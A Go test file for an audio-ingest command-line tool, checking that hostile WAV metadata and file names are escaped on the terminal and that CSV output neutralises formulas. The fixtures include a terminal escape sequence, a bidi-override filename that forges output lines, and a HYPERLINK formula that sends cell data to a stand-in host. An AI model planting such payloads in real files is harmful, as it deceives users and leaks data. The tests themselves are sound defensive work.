package main

import (
	"bytes"
	"encoding/binary"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
)

// hostileScene is an OSC sequence: printed raw, it retitles the terminal.
const hostileScene = "\x1b]0;pwned\x07"

// hostileName carries a bidi override and a newline: printed raw, the name
// reads backwards and forges a line of output.
const hostileName = "A\u202ex\nSAFE.WAV"

// hostileWAV is a broadcast WAV whose bext description slates scene
// hostileScene, and whose iXML scene starts with a bidi override.
func hostileWAV() []byte {
	chunk := func(id string, data []byte) []byte {
		var b bytes.Buffer
		b.WriteString(id)
		binary.Write(&b, binary.LittleEndian, uint32(len(data)))
		b.Write(data)
		if len(data)%2 == 1 {
			b.WriteByte(0)
		}
		return b.Bytes()
	}
	fmtPCM := make([]byte, 16)
	binary.LittleEndian.PutUint16(fmtPCM[0:], 1)     // PCM
	binary.LittleEndian.PutUint16(fmtPCM[2:], 1)     // mono
	binary.LittleEndian.PutUint32(fmtPCM[4:], 48000) // rate
	binary.LittleEndian.PutUint32(fmtPCM[8:], 96000) // bytes per second
	binary.LittleEndian.PutUint16(fmtPCM[12:], 2)    // block align
	binary.LittleEndian.PutUint16(fmtPCM[14:], 16)   // bits
	bext := make([]byte, 602)
	copy(bext, "sSCENE="+hostileScene+"\r\nsTAKE=2\r\n")
	copy(bext[256:], "SD")
	copy(bext[320:], "2026-11-02")
	copy(bext[330:], "10:00:00")
	bext[346] = 1 // version
	ixml := `<?xml version="1.0" encoding="UTF-8"?>` + "\n" +
		`<BWFXML><SCENE>` + "\u202e" + `47</SCENE></BWFXML>` + "\n"
	var body bytes.Buffer
	body.WriteString("WAVE")
	body.Write(chunk("fmt ", fmtPCM))
	body.Write(chunk("bext", bext))
	body.Write(chunk("data", make([]byte, 960)))
	body.Write(chunk("iXML", []byte(ixml)))
	var out bytes.Buffer
	out.WriteString("RIFF")
	binary.Write(&out, binary.LittleEndian, uint32(body.Len()))
	out.Write(body.Bytes())
	return out.Bytes()
}

// rawHostile reports the first character of s a terminal would act on:
// ESC, BEL, a C1 control or a bidi control.
func rawHostile(s string) (rune, bool) {
	for _, r := range s {
		if r == 0x1b || r == 0x07 || r >= 0x80 && r <= 0x9f || r == 0x202e || r == 0x2066 || r == 0x200f {
			return r, true
		}
	}
	return 0, false
}

func TestHostileMetadataIsEscapedOnTheTerminal(t *testing.T) {
	e := newEnv(t)
	card := filepath.Join(e.dir, "card")
	writeFile(t, card, "SOUND/"+hostileName, hostileWAV())
	// The iXML scene wins; the bext one is named in a warning: both must
	// come out escaped.
	summary, stderr, code := e.run("ingest", card)
	if code != 0 {
		t.Fatalf("ingest: exit %d\n%s", code, stderr)
	}
	t.Run("summary", func(t *testing.T) {
		if r, bad := rawHostile(summary); bad {
			t.Errorf("ingest's summary carries a raw %U:\n%q", r, summary)
		}
	})
	// A note can come from anyone with the web page: a formula, for CSV.
	if _, stderr, code := e.run("note", "1", `=HYPERLINK("http://evil.example/?"&A1,"click")`); code != 0 {
		t.Fatal(stderr)
	}
	t.Run("progress lines", func(t *testing.T) {
		if r, bad := rawHostile(stderr); bad {
			t.Errorf("ingest's progress lines carry a raw %U:\n%q", r, stderr)
		}
		if !strings.Contains(stderr, `A\u202ex\nSAFE.WAV`) {
			t.Errorf("the source name is not shown escaped:\n%s", stderr)
		}
		for _, line := range strings.Split(stderr, "\n") {
			if strings.HasPrefix(line, "SAFE") {
				t.Errorf("a file name forged a line: %q", line)
			}
		}
	})
	for _, args := range [][]string{
		{"clips", "--format", "table"},
		{"show", "1", "--format", "table"},
		{"scenes", "--format", "table"},
		{"probe", "--format", "table", card},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			out, stderr, code := e.run(args...)
			if code != 0 {
				t.Fatalf("exit %d: %s", code, stderr)
			}
			if r, bad := rawHostile(out + stderr); bad {
				t.Errorf("raw %U reaches the terminal:\n%q", r, out)
			}
			if !strings.Contains(out, `\x1b]0;pwned\x07`) && !strings.Contains(out, `\u202e47`) {
				t.Errorf("the hostile scene is not shown escaped:\n%s", out)
			}
		})
	}
	t.Run("show names the source escaped, on one line", func(t *testing.T) {
		out, _, _ := e.run("show", "1", "--format", "table")
		if !strings.Contains(out, `SOUND/A\u202ex\nSAFE.WAV`) {
			t.Errorf("show:\n%s", out)
		}
	})
	t.Run("paths piped stay exact", func(t *testing.T) {
		out, _, _ := e.run("clips", "--format", "paths")
		var clips []clipJSON
		js, _, _ := e.run("clips", "--json")
		if err := json.Unmarshal([]byte(js), &clips); err != nil || len(clips) != 1 {
			t.Fatalf("clips --json: %v\n%s", err, js)
		}
		if out != clips[0].LibraryPath+"\n" {
			t.Errorf("--format paths piped = %q, want the library path exactly %q", out, clips[0].LibraryPath)
		}
	})
	t.Run("json stays exact json with bidi escaped", func(t *testing.T) {
		js, _, _ := e.run("clips", "--json")
		if r, bad := rawHostile(js); bad {
			t.Errorf("clips --json carries a raw %U", r)
		}
		var clips []map[string]any
		if err := json.Unmarshal([]byte(js), &clips); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(clips[0]["source_path"].(string), hostileName) {
			t.Errorf("source_path decodes as %q, want it to hold %q", clips[0]["source_path"], hostileName)
		}
	})
	for _, args := range [][]string{{"clips", "--format", "csv"}, {"export", "--format", "csv"}} {
		t.Run(strings.Join(args, " ")+" neutralises formulas", func(t *testing.T) {
			out, stderr, code := e.run(args...)
			if code != 0 {
				t.Fatalf("exit %d: %s", code, stderr)
			}
			rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("%v\n%s", err, out)
			}
			found := false
			for i, cell := range rows[1] {
				if strings.HasPrefix(cell, "=") {
					t.Errorf("column %s starts with =: %q", rows[0][i], cell)
				}
				if rows[0][i] == "notes" {
					found = cell == `'=HYPERLINK("http://evil.example/?"&A1,"click")`
				}
			}
			if !found {
				t.Errorf("the notes cell is not the neutralised formula: %q", rows[1])
			}
		})
	}
}

func TestErrorsNamingHostileValuesAreEscaped(t *testing.T) {
	e := newEnv(t)
	missing := filepath.Join(e.dir, "nope"+hostileScene+"\u202e")
	_, stderr, code := e.run("probe", missing)
	if code != exitFailed || strings.ContainsAny(stderr, "\x1b\x07\u202e") || !strings.Contains(stderr, `nope\x1b]0;pwned\x07\u202e`) {
		t.Errorf("probe of a hostile missing path: exit %d, %q", code, stderr)
	}
}
